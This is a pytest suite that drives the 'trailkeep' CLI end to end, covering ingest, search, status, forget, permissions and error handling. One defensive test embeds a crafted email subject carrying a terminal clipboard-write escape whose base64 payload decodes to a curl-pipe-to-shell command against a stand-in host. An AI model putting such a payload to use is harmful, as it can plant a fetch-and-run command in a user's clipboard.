"""The CLI end to end on a real home; every --json output validated against its schema."""

from __future__ import annotations

import json
from importlib import resources
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from click.testing import CliRunner

from trailkeep.ui.cli import main


def schema(name: str) -> dict[str, Any]:
    ref = resources.files("trailkeep.ui") / "schemas" / f"{name}.schema.json"
    loaded: dict[str, Any] = json.loads(ref.read_text())
    return loaded


def run(home: Path, *args: str, code: int = 0, stdout: bool = False) -> str:
    from tests.conftest import server_env

    env = {"TRAILKEEP_EMBEDDER": "hash", **server_env(home)}
    r = CliRunner().invoke(main, ["--home", str(home), *args], env=env, obj={})
    assert r.exit_code == code, r.output
    return r.stdout if code == 0 or stdout else r.output


def run_json(home: Path, name: str, *args: str, code: int = 0) -> dict[str, Any]:
    data: dict[str, Any] = json.loads(run(home, *args, "--json", code=code, stdout=True))
    jsonschema.validate(data, schema(name))
    return data


@pytest.fixture
def home(tmp_path: Path) -> Path:
    h = tmp_path / "home"
    out = run(h, "init")
    assert "config.toml" in out
    assert (h / "config.toml").read_text().startswith("# trailkeep configuration")
    assert oct((h).stat().st_mode & 0o777) == "0o700"
    return h


def test_init_ingest_search_ask_status(home: Path) -> None:
    inbox = home / "inbox"
    (inbox / "acme.md").write_text(
        "---\nclient: Acme\ndate: 2026-03-04\n---\n# Registry\n\n"
        "We decided to match patients on record number plus clinic.\n"
    )
    (inbox / "broken.md").write_bytes(b"\x00\x01")
    data = run_json(home, "ingest", "ingest", str(inbox), code=65)  # some failed
    assert (data["ingested"], data["failed"]) == (1, 1)
    # Files first, clients.toml after (as a new user does): status says where it goes...
    assert "no clients yet: write " in run(home, "status")
    # ...the label waits for review...
    found = run_json(home, "search", "search", "record number clinic", "-k", "3")
    assert found["hits"][0]["client"] is None
    run(home, "search", "record", "--client", "ACME", code=1)
    # ...and resolves as soon as clients.toml names the client: no restart, no re-ingest.
    (home / "clients.toml").write_text(
        '[[client]]\nname = "Acme Health"\nid = "acme"\naliases = ["Acme"]\n'
    )
    found = run_json(home, "search", "search", "record number clinic", "-k", "3")
    assert found["hits"][0]["client"] == "acme"
    assert run_json(home, "search", "search", "record", "--client", "ACME")["hits"]
    run(home, "search", "record", "--client", "nobody", code=1)
    assert "no clients yet" not in run(home, "status")
    st = run_json(home, "status", "status")
    assert st["sources"]["ingested"] == 1 and st["failures"][0]["source"].endswith("broken.md")
    assert "1 file(s) still cannot be read" in run(home, "retry", code=65)
    ans = run_json(home, "ask", "ask", "zebra giraffe")
    assert ans["abstained"] is True and ans["citations"] == []
    # the text says what the JSON says: the nearest passages, not presented as an answer
    assert ans["closest"]
    out = run(home, "ask", "zebra giraffe")
    assert "Closest, but not an answer:" in out and "acme.md" in out
    assert "doesn't say" in ans["answer"]


def test_status_says_what_the_watcher_still_has_to_read(home: Path) -> None:
    """QA, session 14: `status` said "0 pending" while the watcher (in the page's process)
    was still reading a bulk drop; "pending" meant interrupted sources only."""
    import time

    assert "watcher: not running" in run(home, "status")
    assert run_json(home, "status", "status")["watcher"]["state"] == "not running"
    beat = {"pid": 1, "state": "watching", "pending": 37, "processed": 12, "last_error": None}
    (home / "watcher.json").write_text(json.dumps({**beat, "updated": time.time()}))
    out = run(home, "status")
    assert "watcher: watching, 37 file(s) waiting to be read, 12 read since it started" in out
    assert "0 interrupted" in out
    st = run_json(home, "status", "status")
    assert st["sources"]["interrupted"] == st["sources"]["pending"] == 0
    assert st["watcher"] == {
        **{k: beat[k] for k in ("state", "pending", "processed")},
        "last_error": None,
    }
    # a watcher that stopped reporting is not running, and nothing is said to be waiting
    (home / "watcher.json").write_text(json.dumps({**beat, "updated": time.time() - 60}))
    st = run_json(home, "status", "status")
    assert st["watcher"]["state"] == "not running" and st["watcher"]["pending"] == 0
    # a heartbeat another process wrote badly is "not running", never a traceback
    (home / "watcher.json").write_text(json.dumps({**beat, "updated": "soon", "pending": "x"}))
    assert run_json(home, "status", "status")["watcher"]["state"] == "not running"


def test_doctor_exit_codes_and_repair(home: Path) -> None:
    (home / "inbox" / "a.md").write_text("# A\n\nalpha\n")
    run(home, "ingest", str(home / "inbox"))
    assert "consistent" in run(home, "doctor")
    import sqlite3

    con = sqlite3.connect(home / "trailkeep.sqlite3")
    con.execute("DELETE FROM chunk_fts")
    con.commit()
    con.close()
    assert "INCONSISTENT" in run(home, "doctor", code=1)
    assert "after repair: consistent" in run(home, "doctor", "--repair")
    run(home, "doctor")
    # chunks waiting for their vectors (a full disk stopped an ingest) are work, not damage
    con = sqlite3.connect(home / "trailkeep.sqlite3")
    con.execute("UPDATE chunk SET embedded_by = NULL")
    con.commit()
    con.close()
    out = run(home, "doctor")
    assert "wait for their vectors" in out and "INCONSISTENT" not in out, out


def test_forget_retry_reindex(home: Path) -> None:
    (home / "inbox" / "a.md").write_text("# A\n\nalpha\n")
    run(home, "ingest", str(home / "inbox"))
    doc = run_json(home, "search", "search", "alpha")["hits"][0]["document_id"]
    assert "Backups" in run(home, "forget", "--document", str(doc), "--yes")
    run(home, "forget", "--document", "999", "--yes", code=1)
    run(home, "forget", code=2)
    # not at a terminal (CliRunner's stdin is not one), forget needs --yes: it never deletes
    # because nobody was there to be asked
    (home / "inbox" / "b.md").write_text("# B\n\nbravo\n")
    run(home, "ingest", str(home / "inbox"))
    assert "--yes" in run(home, "forget", "--source", str(home / "inbox" / "b.md"), code=2)
    assert run_json(home, "search", "search", "bravo")["hits"]
    # a source is named by the file it was read from
    run(home, "forget", "--source", str(home / "inbox" / "b.md"), "--yes")
    assert not run_json(home, "search", "search", "bravo")["hits"]
    assert "no source" in run(home, "forget", "--source", str(home / "nowhere.md"), "--yes", code=1)
    # by the name a citation shows (new user's trial, session 30: only the path was taken);
    # two files of that name are named, not guessed between
    (home / "inbox" / "c.md").write_text("# C\n\ncharlie\n")
    (home / "inbox" / "sub").mkdir()
    (home / "inbox" / "sub" / "d.md").write_text("# D\n\ndelta\n")
    (home / "inbox" / "d.md").write_text("# D\n\ndelta two\n")
    run(home, "ingest", str(home / "inbox"))
    run(home, "forget", "--source", "c.md", "--yes")
    assert all(
        "charlie" not in h["quote"] for h in run_json(home, "search", "search", "charlie")["hits"]
    )
    assert "2 files called d.md" in run(home, "forget", "--source", "d.md", "--yes", code=1)
    hits = run_json(home, "search", "search", "delta")["hits"]
    assert len([h for h in hits if "delta" in h["quote"]]) == 2
    assert "re-embedded" in run(home, "reindex")
    assert "still failing" in run(home, "retry")


def test_every_command_has_help() -> None:
    import click

    ctx = click.Context(main)
    seen = []

    def walk(cmd: Any, path: str) -> None:
        seen.append(path)
        assert cmd.help or cmd.callback.__doc__, f"{path} has no help text"
        if isinstance(cmd, click.Group):
            for name in cmd.list_commands(ctx):
                walk(cmd.get_command(ctx, name), f"{path} {name}")

    walk(main, "trailkeep")
    assert {"trailkeep invoice issue", "trailkeep clients assign", "trailkeep bench"} <= set(seen)


def test_the_command_list_is_the_commands_own() -> None:
    """`trailkeep --help` lists commands from a table without importing them: every entry
    loads the command of that name, and its line fits an 80-column listing."""
    import click

    from trailkeep.ui.cli.context import COMMANDS

    ctx = click.Context(main)
    listing = CliRunner().invoke(main, ["--help"]).output
    for name, info in COMMANDS.items():
        cmd = main.get_command(ctx, name)
        assert isinstance(cmd, click.Command), name
        assert cmd.name == name or (name, cmd.name) == ("client", "clients"), name
        assert cmd.get_short_help_str(limit=1000) == info.summary, name  # before and after load
        assert len(info.summary) <= 66, f"{name}: the summary is cut in an 80-column --help"
        assert f"{name.ljust(10)}  {info.summary}" in listing, name


def test_filters_on_search(home: Path) -> None:
    inbox = home / "inbox"
    (inbox / "a.md").write_text(
        "---\nproject: registry\ndate: 2026-03-04\n---\n# A\n\nexport plan alpha\n"
    )
    (inbox / "b.md").write_text(
        "---\nproject: billing\ndate: 2026-05-04\n---\n# B\n\nexport plan beta\n"
    )
    run(home, "ingest", str(inbox))
    q = ("search", "export plan")
    assert [
        h["document"] for h in run_json(home, "search", *q, "--project", "registry")["hits"]
    ] == ["A"]
    assert [
        h["document"] for h in run_json(home, "search", *q, "--since", "2026-04-01")["hits"]
    ] == ["B"]
    assert [
        h["document"] for h in run_json(home, "search", *q, "--until", "2026-03-04")["hits"]
    ] == ["A"]
    assert run_json(home, "search", *q, "--kind", "email")["hits"] == []
    run(home, "search", "x", "--since", "March", code=2)


def test_everything_in_the_home_is_the_users_only(tmp_path: Path) -> None:
    import os
    import stat
    import subprocess
    import sys

    home = tmp_path / "home"
    env = {**os.environ, "TRAILKEEP_EMBEDDER": "hash"}
    cli = [sys.executable, "-m", "trailkeep.ui", "--home", str(home)]
    subprocess.run([*cli, "init"], env=env, check=True, capture_output=True)
    (home / "inbox" / "n.md").write_text("# N\n\nprivate health information\n")
    subprocess.run([*cli, "ingest", str(home / "inbox")], env=env, check=True, capture_output=True)
    loose = []
    for dirpath, dirnames, filenames in os.walk(home):
        for name in dirnames + filenames:
            p = Path(dirpath) / name
            if p.is_relative_to(home / "inbox"):
                continue  # the user's own files keep the user's modes
            if stat.S_IMODE(p.lstat().st_mode) & 0o077:
                loose.append(f"{oct(stat.S_IMODE(p.lstat().st_mode))} {p.relative_to(home)}")
    assert stat.S_IMODE(home.stat().st_mode) == 0o700
    assert loose == []


def test_watch_names_its_folders_and_warns_of_a_missing_source(home: Path, tmp_path: Path) -> None:
    """A `[[source]]` that is not there (a typo) is said, not silently "0 files" (QA)."""
    from tests.conftest import server_env

    sessions = tmp_path / "sessions"
    sessions.mkdir()
    cfg = home / "config.toml"
    cfg.write_text(
        cfg.read_text()
        + f'\n[[source]]\npath = "{sessions}"\nkind = "claude-code"\n'
        + f'\n[[source]]\npath = "{tmp_path / "nowhere"}"\nkind = "notes"\n'
    )
    r = CliRunner().invoke(
        main,
        ["--home", str(home), "watch", "--once"],
        env={
            "TRAILKEEP_EMBEDDER": "hash",
            **server_env(home),
        },
        obj={},
    )
    assert r.exit_code == 0, r.output
    assert f"{tmp_path / 'nowhere'} is not a folder" in r.output
    assert f"{sessions} (claude-code)" in r.output


def test_me_refuses_a_clients_address(home: Path) -> None:
    (home / "clients.toml").write_text(
        '[[client]]\nname = "Acme Health"\nid = "acme"\ndomains = ["acme.example"]\n'
    )
    out = run(home, "me", "--add", "dana@acme.example", code=2)
    assert "Acme Health's" in out and "cannot be yours" in out
    assert "not an email address" in run(home, "me", "--add", "sam", code=2)
    assert "sam@consult.example" in run(home, "me", "--add", "sam@consult.example")
    assert "dana@acme.example" not in (home / "config.toml").read_text()


def _closed_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port: int = s.getsockname()[1]
    return port


def test_a_server_that_does_not_answer_is_a_clear_error(tmp_path: Path) -> None:
    """QA, session 14: a PostgreSQL or Chroma server that is down (or a wrong address) gave a
    Python traceback; now one line naming the server — never its password."""
    port = _closed_port()
    base = {"TRAILKEEP_EMBEDDER": "hash", "TRAILKEEP_CHROMA_URL": "", "TRAILKEEP_DATABASE_URL": ""}
    db = {**base, "TRAILKEEP_DATABASE_URL": f"postgresql+psycopg://sam:s3cret@127.0.0.1:{port}/tk"}
    r = CliRunner().invoke(main, ["--home", str(tmp_path / "a"), "status"], env=db, obj={})
    assert r.exit_code == 1 and "Traceback" not in r.output, r.output
    assert f"server at postgresql+psycopg://sam:***@127.0.0.1:{port}/tk" in r.output
    assert "s3cret" not in r.output
    chroma = {**base, "TRAILKEEP_CHROMA_URL": f"http://127.0.0.1:{port}"}
    r = CliRunner().invoke(main, ["--home", str(tmp_path / "b"), "search", "x"], env=chroma, obj={})
    assert r.exit_code == 1 and "Traceback" not in r.output, r.output
    assert f"cannot reach the Chroma server at http://127.0.0.1:{port}" in r.output


def test_bench_help_and_a_missing_data_file(tmp_path: Path) -> None:
    r = CliRunner().invoke(main, ["bench", "--help"], obj={})
    assert r.exit_code == 0 and "usage: trailkeep bench {" in r.output
    r = CliRunner().invoke(main, ["bench", "locomo", "--data", str(tmp_path / "no.json")], obj={})
    assert r.exit_code == 2 and "cannot read" in r.output and "Traceback" not in r.output


def test_me_remove_clients_list_and_invoice_list_say_what_they_do(home: Path) -> None:
    """QA, session 14: `me --remove` of an address not listed exited 0 having done nothing;
    `clients list` left out addresses and listed a forgotten client as any other; `invoice
    list --json` repeated schema_version inside each invoice."""
    (home / "clients.toml").write_text(
        '[[client]]\nname = "Initech"\nid = "initech"\nemails = ["bill@initech.example"]\n'
        '[[client]]\nname = "Acme"\nid = "acme"\ndomains = ["acme.example"]\n'
    )
    out = run(home, "me", "--remove", "nobody@example.com", code=1)
    assert "nobody@example.com is neither in [me] emails nor inferred" in out
    listed = run_json_plain(home, "clients", "list")
    assert [c["emails"] for c in listed["clients"]] == [["bill@initech.example"], []]
    assert "bill@initech.example" in run(home, "clients", "list")
    run(home, "forget", "--client", "initech", "--yes")
    assert "initech" in run(home, "clients", "list") and "(forgotten" in run(
        home, "clients", "list"
    )
    assert [c["forgotten"] for c in run_json_plain(home, "clients", "list")["clients"]] == [
        True,
        False,
    ]
    invoices = run_json_plain(home, "invoice", "list")
    assert invoices == {"schema_version": 1, "invoices": []}


def run_json_plain(home: Path, *args: str) -> dict[str, Any]:
    data: dict[str, Any] = json.loads(run(home, *args, "--json", stdout=True))
    return data


def test_escape_sequences_in_mail_never_reach_the_terminal(home: Path, tmp_path: Path) -> None:
    """QA, session 14: a subject carrying OSC 52 (a clipboard write) and "ESC [2J" was printed
    raw by `brief` and `search`, and kept in the saved draft's heading."""
    (home / "clients.toml").write_text(
        '[[client]]\nname = "Acme"\nid = "acme"\ndomains = ["acme.example"]\n'
    )
    evil = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\x07\x1b[2JUrgent \u202epilot\x9b"
    mail = tmp_path / "in" / "evil.eml"
    mail.parent.mkdir()
    mail.write_bytes(
        (
            f"From: Cara <cara@acme.example>\nTo: sam@me.example\nSubject: {evil}\n"
            "Date: Mon, 30 Nov 2026 09:00:00 +0000\nMessage-ID: <evil-1@acme.example>\n"
            "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
            f"Could you send the pilot plan by Friday? {evil}\n"
        ).encode()
    )
    run(home, "ingest", str(mail.parent))
    shown = run(home, "brief", "--today", "2026-11-30") + run(home, "search", "pilot plan")
    shown += run(home, "draft", "email", "--client", "acme", "--reply-to", "evil-1@acme.example")
    drafts = "".join(p.read_text() for p in (home / "drafts").glob("*.md"))
    for said in (shown, drafts):
        assert not any(ch in said for ch in "\x1b\x07\x9b\u202e"), repr(said)
    assert "Urgent pilot" in shown


def test_a_home_that_cannot_be_written_is_one_clear_error(tmp_path: Path) -> None:
    """QA, session 18: a home restored by sudo or mounted read-only made every command, even
    `search` and `status`, end in a PermissionError traceback. One message, exit 77."""
    import os
    import shutil
    import subprocess
    import sys

    prefix: list[str] = []
    if os.geteuid() == 0:  # root reads and writes anything: drop the capabilities that allow it
        if shutil.which("setpriv") is None:
            pytest.skip("running as root without setpriv: permissions cannot be taken away")
        caps = "-dac_override,-dac_read_search,-fowner"
        prefix = ["setpriv", "--bounding-set", caps, "--inh-caps", caps]
    home = tmp_path / "home"
    run(home, "init")
    (home / "inbox" / "n.md").write_text("# N\n\nthe feijoa note\n")
    run(home, "ingest", str(home / "inbox"))
    for p in [home, *home.rglob("*")]:
        p.chmod(p.stat().st_mode & ~0o222)
    try:
        env = {**os.environ, "TRAILKEEP_EMBEDDER": "hash"}
        for args in (["search", "feijoa"], ["status"]):
            argv = [*prefix, sys.executable, "-m", "trailkeep.ui", "--home", str(home), *args]
            p = subprocess.run(argv, capture_output=True, text=True, env=env, timeout=300)
            assert p.returncode == 77, p.stderr
            assert "Traceback" not in p.stderr and "Give yourself write access" in p.stderr
    finally:
        for p in [home, *home.rglob("*")]:
            p.chmod(p.stat().st_mode | 0o200)
